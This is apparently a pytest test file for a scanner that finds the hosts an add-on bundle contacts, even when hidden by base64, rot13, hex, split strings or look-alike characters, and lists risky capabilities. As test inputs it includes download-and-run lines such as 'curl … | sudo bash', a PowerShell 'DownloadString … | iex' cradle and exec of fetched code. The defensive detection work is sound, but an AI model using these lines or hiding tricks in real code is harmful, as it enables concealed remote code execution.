"""What somebody would do to hide a host from people who read the code: each is found all the same."""

import base64
import codecs
import zlib

import pytest

from registry.bundles.privacy import privacy_of
from tests.registry.bundles.packing import bundle_of

URL = "https://api.acme-tv.com/x"


def hosts(files):
    return {host.host: host.level.value for host in privacy_of(bundle_of(files)).hosts}


def capabilities(files):
    return {trace.code for trace in privacy_of(bundle_of(files)).capabilities}


@pytest.mark.parametrize(
    "code",
    [
        f'license = "{URL}"\nrequests.get(license)',
        f'user_agent = "{URL}"\nrequests.get(user_agent)',
        f'__url__ = "{URL}"\nrequests.get(__url__)',
        f'def log(x):\n    requests.post(x)\nlog("{URL}")',
        f'def go(website):\n    requests.get(website)\ngo(website="{URL}")',
        f'if (u := "{URL}") != "":\n    requests.get(u)',
        f'print(requests.get("{URL}"))',
        f'for each in ["{URL}"]:\n    pass\n    requests.get(each)',
        f'for i in range(3):\n    while True:\n        requests.get("{URL}")',
        f'urls = []\nurls.append("{URL}")\nfor u in urls:\n    requests.get(u)',
        'requests.get("".join(["https://", "api.", "acme-tv.com", "/x"]))',
        'ALL = ["api.acme-tv.com"]\nfor url in ["https://%s/x" % each for each in ALL]:\n    requests.get(url)',
        'ALL = {"a": "api.acme-tv.com"}\nfor _, each in ALL.items():\n    requests.get(f"https://{each}/x")',
        'requests.get("https://%(host)s/x" % {"host": "api.acme-tv.com"})',
        f'u = "{base64.b64encode(zlib.compress(URL.encode())).decode()}"\nrequests.get(zlib.decompress(base64.b64decode(u)))',
        'requests.get("ht" + "tps://api.acme" + "-tv.com/x")',
        'requests.get("\\x68ttps://api.acme-tv.com/x")',
        f'u = "{base64.b64encode(URL.encode()).decode()}"\nrequests.get(base64.b64decode(u))',
        f'u = "{URL.encode().hex()}"\nrequests.get(bytes.fromhex(u))',
        'requests.get("https://api.acme\u200b-tv.com/x")',
        'requests.get("https://api\u3002acme-tv\uff0ecom/x")',
        'requests.get("https://\uff41pi.acme-tv.com/x")',
        'requests.get("https://good.example:x@api.acme-tv.com/x")',
        f'os.system("curl -s {URL}")',
        'sock.sendto(data, ("api.acme-tv.com", 53))',
        'SERVER = "api.acme-tv.com"\nrequests.get("http://" + SERVER + "/x")',
        f'getattr(requests, "get")("{URL}")',
        f'__import__("requests").get("{URL}")',
        f'importlib.import_module("urllib.request").urlopen("{URL}")',
        f'requests.get("{URL[::-1]}"[::-1])',
        f'requests.get(codecs.decode("{codecs.encode(URL, "rot13")}", "rot13"))',
        'for name in ("api.acme-tv.com",):\n    requests.get("https://" + name)',
        'ALL = {"a": "api.acme-tv.com"}\nrequests.get("https://" + ALL["a"] + "/x")',
        'requests.get(urlunsplit(("https", "api.acme-tv.com", "/x", "", "")))',
        f'client = httpx.Client(base_url="{URL}")',
        'smtplib.SMTP("api.acme-tv.com", 587)',
        'mqtt.Client().connect("api.acme-tv.com", 1883)',
        'requests.get("hxxps://api[.]acme-tv[.]com/x".replace("hxxp", "http").replace("[.]", "."))',
        'parts = ["https://", "api.", "acme-tv.com"]\nrequests.get("".join(parts))',
        f'requests.get("".join(map(chr, {[ord(letter) for letter in URL]})))',
        f'subprocess.call(["/usr/bin/curl", "-s", "{URL}"])',
        f'get = partial(session.get, timeout=3)\nget("{URL}")',
        f'class A:\n    def __init__(self):\n        self.ask = requests.get\n    def go(self):\n        self.ask("{URL}")',
        f'x = thing()\nx.open("GET", "{URL}")',
        f'def f(:\n    requests.get("{URL}"\n}}}} \n  x',
    ],
)
def test_a_host_behind_names_pieces_codes_and_letters_is_e2(code):
    assert hosts({"main.py": code}) == {"api.acme-tv.com": "E2"}


@pytest.mark.parametrize(
    "code",
    [
        f'const license = "{URL}"; fetch(license)',
        f'import("{URL}")',
        f'document.body.innerHTML = `<script src="{URL}"></script>`',
        f'const s = document.createElement("script"); s.src = "{URL}";',
        'http.request({ hostname: "api.acme-tv.com", path: "/x" })',
        'fetch(["https:/", "api.acme-tv.com", "x"].join("/"))',
        f"got({{ url: '{URL}' }})",
        f'axios["get"]("{URL}")',
        f'const cfg = {{ api: {{ root: "{URL}" }} }};\nfetch(cfg.api.root + "/x");',
        f'import x from "{URL}";',
        f'const x = new X(); x.open("GET", "{URL}");',
        'fetch(`https://${"api"}.acme-tv.com/x`)',
        f'const c = axios.create({{ baseURL: "{URL}" }});',
    ],
)
def test_the_same_in_javascript(code):
    assert hosts({"main.js": code}) == {"api.acme-tv.com": "E2"}


def test_one_of_a_list_of_names_is_each_of_them():
    code = 'for name in ["a.acme-tv.com", "b.acme-tv.com"]:\n    requests.get("https://" + name + "/x")'
    assert hosts({"main.py": code}) == {"a.acme-tv.com": "E2", "b.acme-tv.com": "E2"}


def test_a_part_that_a_template_puts_in_is_told_as_unknown():
    code = 'requests.get(Template("https://$place.acme-tv.com/$path").substitute(place=p, path=q))'
    assert hosts({"main.py": code}) == {"*.acme-tv.com": "E2"}


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("a.lua", 'local HOST = "api.acme-tv.com"\nfetch("https://" .. HOST .. "/x")\n'),
        ("a.ps1", '(New-Object Net.WebClient).DownloadString("https://api.acme-tv.com/x") | iex\n'),
        (
            "a.ts",
            'class C {\n  base: string = "https://api.acme-tv.com";\n  go() { return fetch(this.base); }\n}\n',
        ),
    ],
)
def test_scripts_without_a_grammar_are_followed_by_their_variables(name, code):
    assert hosts({name: code}) == {"api.acme-tv.com": "E2"}


@pytest.mark.parametrize("name", ["run.sh", "run"])
def test_variables_of_a_shell_script_are_put_in(name):
    code = '#!/bin/sh\nHOST=api.acme-tv.com\nexport URL="https://${HOST}"\ncurl -s "$URL/x" # https://note.acme-tv.com\n'
    assert hosts({name: code}) == {"api.acme-tv.com": "E2"}


def test_what_a_shell_script_says_is_no_contact():
    assert hosts({"run.sh": 'echo "more at https://api.acme-tv.com/"\n'}) == {}
    assert hosts({"run.sh": 'echo "https://api.acme-tv.com/" | xargs curl\n'}) == {"api.acme-tv.com": "E1"}


def test_shell_variables_that_grow_end():
    code = "A=aaaaaaaaaa\n" + "A=$A$A$A$A$A$A$A$A$A$A\n" * 2000 + "curl https://api.acme-tv.com/$A\n"
    assert hosts({"run.sh": code}) == {"api.acme-tv.com": "E2"}


@pytest.mark.parametrize("number", ["134744072", "0x08080808", "010.8.8.8", "8.8.2056"])
def test_an_address_as_a_number_is_told_as_people_write_it(number):
    assert hosts({"main.py": f'requests.get("http://{number}/x")'}) == {"8.8.8.8": "E2"}


@pytest.mark.parametrize(
    ("path", "importing"),
    [
        ("tests/helper.py", "from tests.helper import go"),
        ("tests/helper.py", "import tests.helper"),
        ("docs/helper.py", "from docs import helper"),
        ("lib/test_helper.py", "from lib import test_helper"),
        ("examples/__init__.py", "import examples"),
    ],
)
def test_code_in_a_folder_of_tests_counts_when_other_code_uses_it(path, importing):
    files = {path: f'requests.get("{URL}")'}
    assert hosts(files) == {}
    assert hosts({**files, "main.py": importing}) == {"api.acme-tv.com": "E2"}


def test_a_stand_in_that_a_call_asks_for_counts():
    assert hosts({"main.py": 'requests.get("https://foo.com/x")\ny = "https://foo.net"'}) == {"foo.com": "E2"}


@pytest.mark.parametrize(
    "code",
    [
        'requests.get(own, headers={"User-Agent": "Acme/1.0 (+https://api.acme-tv.com)"})',
        'UA = "Acme/1.0 +https://api.acme-tv.com/"\nclient = Client(UA)\nclient.get(own)',
        'requests.get(own, headers={"Referer": "https://api.acme-tv.com/"})',
        'session.headers["Origin"] = "https://api.acme-tv.com"\nsession.get(own)',
        'parser = ArgumentParser(epilog="More at https://api.acme-tv.com/")',
        'webbrowser_note = "Please see https://api.acme-tv.com/ for more"',
        'x = re.sub("https://api.acme-tv.com/", "", x)',
        'def f():\n    """https://api.acme-tv.com/"""\n    return 1',
        'NS = "https://api.acme-tv.com/xmlns"\nroot.find("{%s}a" % NS)',
        'raise ValueError, "https://api.acme-tv.com/ is down"',
    ],
)
def test_what_is_only_told_or_compared_stays_out(code):
    assert hosts({"main.py": code}) == {}


@pytest.mark.parametrize(
    ("files", "code"),
    [
        ({"main.py": f'exec(requests.get("{URL}").text)'}, "runs_downloaded_code"),
        ({"main.py": f'code = urlopen("{URL}").read()\nexec(code)'}, "runs_downloaded_code"),
        (
            {"main.py": f'def load(u):\n    return requests.get(u).text\neval(load("{URL}"))'},
            "runs_downloaded_code",
        ),
        ({"main.js": f'const t = await (await fetch("{URL}")).text(); eval(t)'}, "runs_downloaded_code"),
        ({"run.sh": f"curl -s {URL} | sudo bash\n"}, "runs_downloaded_code"),
        ({"main.py": 'subprocess.run([exe, "-m", "pip", "install", "x"])'}, "runs_downloaded_code"),
        ({"main.py": 'os.system("pip install x")'}, "runs_downloaded_code"),
        ({"main.py": "pickle.loads(requests.get(u).content)"}, "runs_downloaded_code"),
        ({"main.py": 'requests.get("https://api.github.com/repos/a/b/releases/latest")'}, "updates_itself"),
        ({"Contents/Info.plist": "<key>PlexPluginVersionUrl</key><string>x</string>"}, "updates_itself"),
        ({"main.py": 'zipfile.ZipFile(x).extractall("/")'}, "unpacks"),
        ({"main.py": 'os.system("ls")'}, "exec"),
        ({"x.yml": "name: a\nexec:\n  - python\n"}, "exec"),
        ({"main.py": 'ctypes.CDLL("libc.so.6")'}, "native_code"),
        ({"lib.so": b"\x7fELF"}, "native_code"),
        ({"main.py": 'xbmc.executebuiltin("InstallAddon(x)")'}, "installs_addons"),
        ({"main.py": 'HTTPServer(("", 80), H)'}, "listens"),
        (
            {"AndroidManifest.xml": b"\0android.permission.READ_CONTACTS\0"},
            "android.permission.READ_CONTACTS",
        ),
    ],
)
def test_what_a_bundle_can_do_is_listed(files, code):
    assert code in capabilities(files)


def test_a_message_about_pip_and_a_pickle_that_is_written_run_nothing():
    code = 'print("To update: pip install x")\nx = requests.get(u).json()\npickle.dump(x, file)'
    assert capabilities({"main.py": code}) == set()


def test_code_that_was_shipped_and_is_run_is_no_download():
    files = {"main.py": 'code = open("x.py").read()\nexec(code)\nrequests.get(own)'}
    assert capabilities(files) == {"evaluates_code"}
